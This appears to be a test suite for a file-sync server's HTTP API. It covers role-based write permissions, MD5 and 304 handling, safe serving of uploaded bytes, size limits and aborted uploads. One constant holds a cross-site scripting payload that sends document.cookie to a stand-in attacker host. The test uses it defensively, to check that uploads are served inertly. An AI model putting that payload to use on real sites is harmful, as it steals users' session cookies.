import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { Readable } from 'node:stream';
import { putFile } from '../../../src/core/files/files.js';
import { ErrorBody, OAuthErrorBody } from '../../../src/http/schemas/common.js';
import { FileInfo } from '../../../src/http/schemas/files.js';
import { startTestServer, type TestServer, type UserKey } from '../../helpers/http-server.js';
import { pendingUploads, putByHand } from '../../helpers/stored-files.js';

const LIMIT = 64 * 1024;
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]);
const SCRIPT = Buffer.from('<script>document.location="https://evil.example/"+document.cookie</script>');
const ROLES = ['standard', 'api', 'admin'] as const;

let s: TestServer;
before(async () => {
  s = await startTestServer({
    config: { maxFileBytes: LIMIT },
    seed: async (store) => {
      // Office files put there by the operator (`sds files put`), one per role of the matrix.
      for (const role of ROLES) await putFile(store, `office/${role}.jpg`, Readable.from([JPEG]));
      await putFile(store, 'photos/logo.jpg', Readable.from([JPEG]));
    },
  });
  for (const u of ['admin', 'api', 'standard'] as const) assert.equal((await s.call(u, '/api/server')).status, 200);
});
after(() => s.close());

const put = (user: UserKey | null, path: string, body: Buffer | string, headers: Record<string, string> = {}) =>
  s.call(user, `/api/files/${path.split('/').map(encodeURIComponent).join('/')}/content`, { method: 'PUT', body, headers });

async function bytesOf(path: string): Promise<Buffer> {
  const r = await s.call('admin', `/api/files/media/${path}/content`);
  assert.equal(r.status, 200);
  return Buffer.from(await r.arrayBuffer());
}

async function denied(r: Response, what: string): Promise<void> {
  const text = await r.text();
  assert.equal(r.status, 403, `${what}: ${text}`);
  const e = OAuthErrorBody.parse(JSON.parse(text));
  assert.equal(e.error, 'access_denied', what);
  assert.match(e.error_description, /may not replace/, what);
}

test('file routes × role: read everywhere, create everywhere; only API and Administrator replace office files', async () => {
  // A field file and a file an API account wrote, both through the sync route.
  assert.equal((await put('standard', 'field/shared.txt', 'v1')).status, 200);
  assert.equal((await put('api', 'office/by-api.csv', 'a,b\n')).status, 200);
  const expected: Record<(typeof ROLES)[number], number> = { standard: 403, api: 200, admin: 200 };
  for (const role of ROLES) {
    const reads: [string, string][] = [
      ['GET media metadata', '/api/files/media/photos/logo.jpg'],
      ['GET media content', '/api/files/media/photos/logo.jpg/content'],
      ['GET sync content', '/api/files/photos/logo.jpg/content'],
      ['GET folder', '/api/folders/photos'],
      ['GET apps', '/api/apps'],
    ];
    for (const [what, path] of reads) {
      const r = await s.call(role, path);
      assert.equal(r.status, 200, `${role} ${what}`);
      await r.arrayBuffer();
    }
    assert.equal((await put(role, `field/${role}-new.txt`, 'new')).status, 200, `${role} creates a file`);
    assert.equal((await put(role, 'field/shared.txt', `by ${role}`)).status, 200, `${role} replaces a field file`);
    const office = await put(role, `office/${role}.jpg`, SCRIPT);
    if (expected[role] === 403) await denied(office, `${role} replaces an operator's file`);
    else assert.equal(office.status, 200, `${role} replaces an operator's file`);
    // A replaced office file stays an office file: later the field account still may not touch it.
  }
  // Every way in to an office file is closed to the field account: the `media/` alias, an API
  // account's file, a file put in the folder by hand, a file an API account took over.
  await denied(await put('standard', 'media/photos/logo.jpg', SCRIPT), 'the media/ alias');
  await denied(await put('standard', 'office/by-api.csv', 'x'), "an API account's file");
  await putByHand(s.store, 'media', 'by-hand.txt', 'placed by the operator');
  await denied(await put('standard', 'by-hand.txt', 'x'), 'a file put there by hand');
  assert.equal((await put('api', 'field/shared.txt', 'taken over')).status, 200);
  await denied(await put('standard', 'field/shared.txt', 'x'), 'a field file an API account replaced since');
  // The refused writes changed nothing.
  assert.deepEqual(await bytesOf('photos/logo.jpg'), JPEG);
  assert.deepEqual(await bytesOf('office/standard.jpg'), JPEG);
  assert.deepEqual(await bytesOf('office/api.jpg'), SCRIPT);
  // No token at all: 401 on every file route.
  for (const path of ['/api/files/media/photos/logo.jpg', '/api/files/photos/logo.jpg/content', '/api/folders/'])
    assert.equal((await s.call(null, path)).status, 401, path);
  assert.equal((await put(null, 'field/x.txt', 'x')).status, 401);
});

test('what CSEntry does with files works for a Standard account: paradata, photos, md5 checks, 304', async () => {
  const uuid = 'pds-uuid-1';
  assert.equal(
    (await put('standard', 'paradata/pds.txt', uuid, { 'content-md5': createHash('md5').update(uuid).digest('hex') })).status,
    200,
  );
  for (const stamp of ['2025-01-15T09:00:00Z', '2025-01-16T09:00:00Z']) {
    const r = await put('standard', 'paradata/plc-tablet-1.txt', stamp);
    assert.equal(r.status, 200, 'the client rewrites its own paradata cursor file');
  }
  assert.equal(
    (await put('standard', 'paradata/pl-tablet-1-20250115.zip', Buffer.from('PK\x05\x06' + '\0'.repeat(18), 'latin1'))).status,
    200,
  );
  const list = (await (await s.call('standard', '/api/folders/paradata')).json()) as { name: string }[];
  assert.deepEqual(list.map((e) => e.name).sort(), ['pds.txt', 'pl-tablet-1-20250115.zip', 'plc-tablet-1.txt']);
  const get = await s.call('standard', '/api/files/paradata/pds.txt/content');
  const md5 = get.headers.get('content-md5')!;
  assert.equal(Buffer.from(await get.arrayBuffer()).toString(), uuid);
  assert.equal(get.headers.get('x-content-type-options'), 'nosniff');
  assert.equal((await s.call('standard', '/api/files/paradata/pds.txt/content', { headers: { 'if-none-match': md5 } })).status, 304);
});

test('script bytes under an image name are served as plain bytes, as an attachment, with nosniff', async () => {
  assert.equal((await put('standard', 'field/photo-17.jpg', SCRIPT)).status, 200);
  const meta = FileInfo.parse(await (await s.call('admin', '/api/files/media/field/photo-17.jpg')).json());
  assert.equal(meta.content_type, 'application/octet-stream');
  const r = await s.call('admin', '/api/files/media/field/photo-17.jpg/content');
  assert.equal(r.headers.get('content-type'), 'application/octet-stream');
  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
  assert.match(r.headers.get('content-disposition') ?? '', /^attachment;/);
  assert.deepEqual(Buffer.from(await r.arrayBuffer()), SCRIPT);
  // A real JPEG keeps its type.
  const jpeg = await s.call('admin', '/api/files/media/photos/logo.jpg/content');
  assert.equal(jpeg.headers.get('content-type'), 'image/jpeg');
  await jpeg.arrayBuffer();
});

test('HEAD on the download routes: the headers of the version, no body', async () => {
  for (const path of ['/api/files/media/photos/logo.jpg/content', '/api/files/photos/logo.jpg/content']) {
    const r = await s.call('standard', path, { method: 'HEAD' });
    assert.equal(r.status, 200, path);
    assert.equal(r.headers.get('content-length'), String(JPEG.length), path);
    assert.equal((await r.arrayBuffer()).byteLength, 0, path);
  }
});

test('file-size limit: 413 PAYLOAD_TOO_LARGE as soon as it is crossed, declared or streamed; the old version stays, no temporary file', async () => {
  const path = 'field/big.bin';
  const old = Buffer.alloc(1000, 0x6f);
  assert.equal((await put('standard', path, old)).status, 200);
  const tooLarge = async (r: Response, what: string) => {
    const text = await r.text();
    assert.equal(r.status, 413, `${what}: ${text}`);
    const e = ErrorBody.parse(JSON.parse(text));
    assert.equal(e.error, 'PAYLOAD_TOO_LARGE');
    assert.match(e.message, new RegExp(`${path}.*${LIMIT} bytes`), what);
  };
  await tooLarge(await put('standard', path, Buffer.alloc(LIMIT + 1)), 'a declared Content-Length over the limit');
  // Streamed without a length (chunked): refused when the bytes cross the limit.
  let sent = 0;
  const body = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent >= 4 * LIMIT) return controller.close();
      sent += 16 * 1024;
      controller.enqueue(new Uint8Array(16 * 1024).fill(0x78));
    },
  });
  const chunked = await s.call('standard', `/api/files/${path}/content`, { method: 'PUT', body, duplex: 'half' } as RequestInit);
  await tooLarge(chunked, 'a chunked body over the limit');
  assert.ok(sent > LIMIT);
  assert.deepEqual(await bytesOf(path), old, 'the old version is intact');
  assert.equal(await pendingUploads(s.store), 0, 'no temporary file left');
  assert.equal((await s.store.files.find(path))!.size, old.length);
  // Exactly the limit is stored; the server goes on answering.
  const exact = Buffer.alloc(LIMIT, 0x65);
  assert.equal((await put('standard', path, exact)).status, 200);
  assert.deepEqual(await bytesOf(path), exact);
  assert.deepEqual(
    s.logs.filter((l) => /internal error/.test(l)),
    [],
  );
});

test('a client that goes away mid-upload: nothing stored, the old version intact, no temporary file, the server goes on', async () => {
  const path = 'field/cut.bin';
  const old = Buffer.from('the version before');
  assert.equal((await put('standard', path, old)).status, 200);
  const token = (await s.login('standard')).access_token;
  const { hostname, port } = new URL(s.base);
  const sock = connect(Number(port), hostname);
  await new Promise((resolve) => sock.once('connect', resolve));
  sock.write(
    `PUT /api/files/${path}/content HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Length: ${LIMIT - 1}\r\n\r\n`,
  );
  sock.write(Buffer.alloc(30_000, 0x7a));
  // The temporary upload exists while the body arrives; wait for it (bounded), then cut the connection.
  for (let i = 0; i < 200 && (await pendingUploads(s.store)) === 0; i++) await delay(10);
  assert.equal(await pendingUploads(s.store), 1, 'the upload was under way');
  sock.destroy();
  let left = 1;
  for (let i = 0; i < 200; i++) {
    left = await pendingUploads(s.store);
    if (left === 0) break;
    await delay(10);
  }
  assert.equal(left, 0, 'the temporary upload is removed');
  assert.deepEqual(await bytesOf(path), old);
  assert.equal((await s.store.files.find(path))!.size, old.length);
  assert.deepEqual(
    s.logs.filter((l) => /internal error/.test(l)),
    [],
  );
  assert.equal(
    s.logs.filter((l) => / PUT \/api\/files\/field\/cut\.bin\/content 200 /.test(l)).length,
    1,
    'only the first upload was answered 200',
  );
});
